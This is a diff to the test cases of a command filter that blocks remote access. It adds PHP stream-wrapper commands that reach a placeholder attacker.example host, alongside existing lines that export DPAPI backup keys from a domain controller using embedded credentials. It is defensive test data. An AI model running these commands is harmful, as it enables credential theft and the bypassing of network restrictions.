@@ -60,6 +60,10 @@ BLOCKED = [
     ("posix", "python2 scan.py 'CORP/svc:Winter2024@TARGET'"),
     ("posix", "dpapi.py backupkeys --export -t corp/admin:passw0rd@dc_01"),
     ("posix", "mytool 'corp.local'/'alice':'pw'@'fileserver'"),
+    # a local stream wrapper that wraps a remote one still reaches it
+    ("posix", "php tools/x.php php://filter/resource=http://attacker.example/x"),
+    ("posix", "mytool compress.zlib://https://attacker.example/x.gz"),
+    ("posix", "mytool phpx://attacker.example/x"),
 ]
 
 # The same programs, and the words that look like locators but name nothing remote.
@@ -124,6 +128,12 @@ ALLOWED = [
     ("powershell", "Select-String -Pattern 'https://' -Path *.md"),
     ("powershell", "Add-Content notes.txt 'https://example.com'"),
     ("powershell", "certutil -hashfile x.zip SHA256"),
+    # PHP's own streams and archives, and in-process stores, are on this machine
+    ("posix", "php vendor/bin/infection --logger-text=php://stdout"),
+    ("posix", "phpunit --log-junit php://stderr"),
+    ("posix", "php bin/console cache:warmup --env=phar://app.phar/config.php"),
+    ("posix", "mytool --input compress.zlib://data/x.gz --store memory://"),
+    ("powershell", "php vendor/bin/phpunit --log-junit php://stdout"),
 ]
 
 
